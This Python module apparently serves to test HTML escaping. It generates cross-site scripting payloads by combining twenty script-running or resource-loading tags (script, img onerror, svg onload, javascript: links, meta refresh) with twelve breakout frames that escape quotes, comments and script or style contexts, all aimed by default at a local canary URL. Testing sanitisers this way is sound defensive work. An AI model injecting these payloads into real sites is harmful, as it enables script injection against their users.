"""Markup that runs scripts or loads things wherever a page forgets to treat it as text."""

from __future__ import annotations

import itertools

WORK = "window.owned=(window.owned||0)+1;fetch('{canary}f{n}').catch(()=>0)"

TAGS = (
    "<script>{work}</script>",
    "<SCRIPT SRC={canary}s{n}></SCRIPT>",
    '<img src=x onerror="{work}">',
    "<img src='{canary}i{n}'>",
    '<svg onload="{work}"></svg>',
    '<svg><script href="{canary}v{n}"></script></svg>',
    '<iframe srcdoc="<script>parent.window.owned=1</script>"></iframe>',
    "<iframe src='{canary}r{n}'></iframe>",
    '<body onload="{work}">',
    '<details open ontoggle="{work}">x</details>',
    '<video><source onerror="{work}"></video>',
    '<input autofocus onfocus="{work}">',
    '<link rel=stylesheet href="{canary}l{n}">',
    "<style>@import '{canary}c{n}';</style>",
    '<div style="background:url({canary}u{n})">x</div>',
    '<meta http-equiv=refresh content="0;url={canary}m{n}">',
    '<object data="{canary}o{n}"></object>',
    '<embed src="{canary}e{n}">',
    '<math><mtext><img src=x onerror="{work}"></mtext></math>',
    '<a href="javascript:{work}" id=x>x</a>',
)
FRAMES = (
    "{}",
    '">{}',
    "'>{}",
    "</script>{}",
    "</style></title></textarea>{}",
    "-->{}<!--",
    "]]>{}",
    "</pre></svg>{}",
    "\\u003c/script\\u003e{}",
    "\u2028{}\u2029",
    "{{{{{}}}}}",
    "&lt;b&gt;{}",
)


def payloads(count: int, canary: str = "http://127.0.0.1:9/") -> list[str]:
    """So many different ones, the plain forms first."""
    made = []
    for n, (frame, tag) in enumerate(itertools.islice(itertools.cycle(itertools.product(FRAMES, TAGS)), count)):
        body = frame.format(tag.format(work=WORK.format(canary=canary, n=n), canary=canary, n=n))
        made.append(body if n < len(FRAMES) * len(TAGS) else f"{n} {body}")
    return made
